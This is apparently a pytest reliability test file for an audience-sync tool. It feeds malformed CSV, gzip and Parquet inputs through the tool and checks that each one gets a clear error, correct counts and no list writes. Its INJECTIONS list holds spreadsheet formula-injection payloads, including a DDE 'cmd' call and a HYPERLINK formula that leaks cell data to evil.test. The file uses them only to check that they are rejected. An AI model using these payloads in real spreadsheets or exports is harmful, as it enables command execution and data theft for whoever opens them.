"""A corpus of bad input files: always a clear error or the right counts, never a traceback, never a removal.

Each file goes through `pinaudience.input.prepare`, through `pinaudience prepare` on the command line, and
through a mirror sync against a list of 300 members that the file should (if it could be read) leave
unchanged. Expected: an `invalid_input` error naming the problem, or exact counts; exit code 1, never 2;
no value of the file (formula-injection strings included) in any output; and no write at all to the list.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import resource
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from pinaudience.cli import run as cli_run
from pinaudience.engine.events import ReadProgress, SyncEvent
from pinaudience.errors import InputError
from pinaudience.input.prepare import prepare
from tests.helpers import write_csv
from tests.reliability.reliability_helpers import CANARY_DOMAIN, Harness, assert_no_leaks, canary_emails

pytestmark = [pytest.mark.anyio, pytest.mark.reliability]

MEMBERS = canary_emails(300)
"""The list's members before each bad file, and the valid rows of the files that hold any."""

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"open")',
    "=1+1",
    "@",
    "-",
]
"""Spreadsheet formulas (`=`, `+`, `-`, `@` first): invalid emails, never to be echoed into any output."""

MIB = 1 << 20
TWO_GIB = 2 << 30


def csv_bytes(values: list[str], header: str = "email", encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([header])
    writer.writerows([value] for value in values)
    return out.getvalue().encode(encoding)


def padding(size: int) -> bytes:
    """Repeated valid rows (duplicates of the members), to push a fault past the first MiB that is sniffed."""
    rows = csv_bytes(MEMBERS)[len(b"email\n") :]
    return (rows * (size // len(rows) + 1))[:size].rsplit(b"\n", 1)[0] + b"\n"


def two_gib_line(path: Path) -> None:
    """A header, then one line of 2 GiB: 20 MiB of text written at once, the rest a hole (cheap on disk)."""
    with path.open("wb") as handle:
        handle.write(b"email\n" + b"a" * (20 * MIB))
        handle.seek(TWO_GIB - 1)
        handle.write(b"\n")


def valid_rows_then_two_gib_line(path: Path) -> None:
    """The members, then one line of 2 GiB (20 MiB written, the rest a hole)."""
    with path.open("wb") as handle:
        handle.write(csv_bytes(MEMBERS) + b"b" * (20 * MIB))
        handle.seek(TWO_GIB - 1)
        handle.write(b"\n")


def two_gib_line_gzip(path: Path) -> None:
    """A gzip file whose text is a header and one line of 2 GiB: one 1 MiB member compressed once, repeated."""
    member = gzip.compress(b"a" * MIB, compresslevel=9)
    with path.open("wb") as handle:
        handle.write(gzip.compress(b"email\n"))
        handle.write(member * (TWO_GIB // MIB))
        handle.write(gzip.compress(b"\n"))


def append_row(path: Path) -> None:
    with path.open("a", encoding="utf-8") as handle:
        handle.write(f"late.{MEMBERS[0]}\n")


def replace_file(path: Path) -> None:
    fresh = path.with_name(path.name + ".new")
    fresh.write_bytes(csv_bytes(MEMBERS[:150]))
    os.replace(fresh, path)


@dataclass(frozen=True)
class Case:
    """A bad file and what must come of it: an `invalid_input` error saying `error`, or these counts."""

    make: Callable[[Path], None]
    error: str | None = None
    rows_read: int | None = None
    rows_invalid: int | None = None
    records: int | None = None
    sync_error: str | None = None
    """The sync's error kind when prepare succeeds but the guards stop the mirror."""
    during_read: Callable[[Path], None] | None = None
    """Done to the file at the first progress report, while it is being read."""


def content(data: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(data)

    return make


rng = random.Random(7)
GARBAGE = rng.randbytes(256 * 1024)

CORPUS: dict[str, Case] = {
    "binary garbage": Case(content(GARBAGE), error="looks binary"),
    "binary garbage without NUL bytes": Case(content(bytes(b | 0x80 for b in GARBAGE)), error="not UTF-8"),
    "an empty file": Case(content(b""), error="is empty"),
    "whitespace only": Case(content(b" \n\t\n\n"), error="only whitespace"),
    "a header alone": Case(content(b"email\n"), error="header row but no data rows"),
    "a header and blank lines": Case(content(b"email\n\n\n\n"), error="is empty in all 3 rows"),
    "UTF-16 with a byte order mark": Case(content(csv_bytes(MEMBERS, encoding="utf-16")), error="UTF-16"),
    "UTF-16 big-endian with a byte order mark": Case(
        content(b"\xfe\xff" + csv_bytes(MEMBERS, encoding="utf-16-be")), error="UTF-16"
    ),
    "UTF-16 without a byte order mark": Case(
        content(csv_bytes(MEMBERS, encoding="utf-16-le")), error="without a byte order mark"
    ),
    "Latin-1 text": Case(content(csv_bytes([*MEMBERS, "jürgen@exämple.de"], encoding="latin-1")), error="UTF-8"),
    "Latin-1 text past the first MiB": Case(
        content(b"email\n" + padding(2 * MIB) + "jürgen@exämple.de\n".encode("latin-1")), error="UTF-8"
    ),
    "a NUL byte in the first MiB": Case(content(csv_bytes(MEMBERS) + b"nul\x00byte@example.com\n"), error="binary"),
    "a NUL byte inside a value past the first MiB": Case(
        content(b"email\n" + padding(2 * MIB) + b"nul\x00byte@" + CANARY_DOMAIN.encode() + b"\n"),
        rows_invalid=1,
        records=300,
    ),
    "a single 2 GiB line": Case(two_gib_line, error="longer than 16 MiB"),
    "a 2 GiB line after valid rows": Case(valid_rows_then_two_gib_line, error="longer than 16 MiB"),
    "a single 2 GiB line, gzip-compressed": Case(two_gib_line_gzip, error="longer than 16 MiB"),
    "formula-injection strings among valid rows": Case(
        content(csv_bytes(INJECTIONS + MEMBERS + INJECTIONS)),
        rows_read=300 + 2 * len(INJECTIONS),
        rows_invalid=2 * len(INJECTIONS),
        records=300,
    ),
    "formula-injection strings only": Case(
        content(csv_bytes(INJECTIONS * 20)),
        rows_read=20 * len(INJECTIONS),
        rows_invalid=20 * len(INJECTIONS),
        records=0,
        sync_error="not_enough_records",
    ),
    "two million invalid rows": Case(
        content(b"email\n" + b"not-an-email\n" * 2_000_000 + csv_bytes(MEMBERS)[6:]),
        rows_read=2_000_300,
        rows_invalid=2_000_000,
        records=300,
    ),
    "most rows garbled": Case(
        content(csv_bytes(MEMBERS[:120] + [m.replace("@", " at ") for m in MEMBERS[120:]])),
        rows_read=300,
        rows_invalid=180,
        records=120,
        sync_error="mass_removal_blocked",
    ),
    "an unclosed quote": Case(content(csv_bytes(MEMBERS) + b'"unclosed@example.com\n'), error="never closed"),
    "rows with more fields than the header": Case(
        content(b"email,name\n" + b"".join(f"{m},x\n".encode() for m in MEMBERS) + b"a@b.test,x,y\n"),
        error="more fields",
    ),
    "a corrupt gzip file": Case(content(b"\x1f\x8b\x08\x00" + GARBAGE[:1000]), error="corrupt"),
    "not Parquet despite its name": Case(content(csv_bytes(MEMBERS)), error="not a Parquet file"),
    "appended to while it is read": Case(content(csv_bytes(MEMBERS)), error="changed while it was read",
                                         during_read=append_row),
    "replaced while it is read": Case(content(csv_bytes(MEMBERS)), error="changed while it was read",
                                      during_read=replace_file),
}  # fmt: skip


def file_name(name: str) -> str:
    if name == "not Parquet despite its name":
        return "customers.parquet"
    return "customers.csv.gz" if "gzip" in name else "customers.csv"


@pytest.fixture
def bad_file(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Case, Path]]:
    """The case's file in the test's inputs folder; deleted afterwards (the 2 GiB ones are sparse, still large)."""
    case = CORPUS[request.param]
    folder = tmp_path / "inputs"
    folder.mkdir(exist_ok=True)
    path = folder / file_name(request.param)
    case.make(path)
    yield case, path
    path.unlink(missing_ok=True)


def changer(case: Case, path: Path) -> Callable[[object], None]:
    """A progress callback doing the case's change to the file at the first report."""
    done: list[bool] = []

    def progress(_: object) -> None:
        if case.during_read is not None and not done:
            done.append(True)
            case.during_read(path)

    return progress


def assert_counts(case: Case, report: dict[str, object]) -> None:
    for name in ("rows_read", "rows_invalid", "records"):
        expected = getattr(case, name)
        if expected is not None:
            assert report[name] == expected, f"{name}: {report[name]} != {expected}"


def peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.parametrize("bad_file", CORPUS, indirect=True)
def test_bad_input_through_prepare(bad_file: tuple[Case, Path], tmp_path: Path) -> None:
    """`prepare` gives a clear invalid_input or the right counts, in bounded memory, echoing no value."""
    case, path = bad_file
    rejects = tmp_path / "rejects.csv"
    peak_before = peak_rss_mib()
    progress = changer(case, path)
    if case.error is not None:
        with pytest.raises(InputError) as raised:
            prepare(path, rejects=rejects, progress=progress)
        error = raised.value
        assert error.kind == "invalid_input"
        assert case.error in error.message, error.message
        assert str(path) in error.message
        assert error.resolution
        text = f"{error.message} {error.resolution}"
        assert CANARY_DOMAIN not in text
        assert not any(value in text for value in INJECTIONS if len(value) > 2)
        assert not rejects.exists(), "a failed prepare leaves no rejects file"
    else:
        prepared = prepare(path, rejects=rejects, progress=progress)
        prepared.records.close()
        report = prepared.report.to_dict()
        assert_counts(case, report)
        assert report["rows_valid"] + report["rows_invalid"] == report["rows_read"]
        rows = rejects.read_text(encoding="utf-8").splitlines()
        assert rows[0] == "row,reason"
        assert len(rows) - 1 == report["rows_invalid"]
        assert all(row.split(",")[0].isdigit() for row in rows[1:])
    assert peak_rss_mib() - peak_before < 512, "reading must not hold the file in memory"


@pytest.mark.parametrize("bad_file", [n for n, c in CORPUS.items() if c.during_read is None], indirect=True)
def test_bad_input_through_the_cli(
    bad_file: tuple[Case, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`pinaudience prepare` exits 1 with the error, or 0 with the counts; never 2, never a value in its outputs."""
    case, path = bad_file
    out, rejects = tmp_path / "records.csv", tmp_path / "rejects.csv"
    code = cli_run(["prepare", str(path), "--json", "--out", str(out), "--rejects", str(rejects)])
    captured = capsys.readouterr()
    outputs = captured.out + captured.err
    assert "Traceback" not in outputs
    if case.error is not None:
        assert code == 1, outputs
        assert "invalid_input" in captured.err
        assert not out.exists()
    else:
        assert code == 0, outputs
        assert_counts(case, json.loads(captured.out))
        outputs += out.read_text(encoding="utf-8") + rejects.read_text(encoding="utf-8")
    assert CANARY_DOMAIN not in outputs
    for value in INJECTIONS:
        if len(value) > 2:
            assert value not in outputs


@pytest.mark.parametrize("bad_file", CORPUS, indirect=True)
async def test_bad_input_never_removes(
    bad_file: tuple[Case, Path], harness: Harness, logs: pytest.LogCaptureFixture
) -> None:
    """A mirror of a bad file against a list of 300 members: a clear error or no change; never a write."""
    case, path = bad_file
    settings = harness.settings(write_csv(harness.inputs / "members.csv", MEMBERS))
    (first,) = await harness.converge(settings)
    list_id = first.customer_list_id
    assert list_id is not None
    await harness.clear_sends()

    def observer(event: SyncEvent) -> None:
        if isinstance(event, ReadProgress):
            progress(event.progress)

    progress = changer(case, path)
    report = await harness.run_one(harness.settings(path), observer=observer)
    if case.error is not None:
        assert report.error is not None
        assert report.error.kind == "invalid_input"
        assert case.error in report.error.message
    elif case.sync_error is not None:
        assert report.error is not None
        assert report.error.kind == case.sync_error
    else:
        assert report.status == "ok", report.error
        assert (report.planned_adds, report.planned_removes) == (0, 0)
        assert_counts(case, report.to_dict())
    # Nothing applied: no list update; an audience create that Pinterest refuses while it is still matching
    # the list (audience_on_unmatched=refuse) changes nothing either.
    assert await harness.admin.applied_writes() == []
    assert await harness.admin.sends(list_id) == {"ADD": {}, "REMOVE": {}}
    await harness.assert_exact(list_id, MEMBERS)
    assert_no_leaks(harness, logs.records, people=MEMBERS)
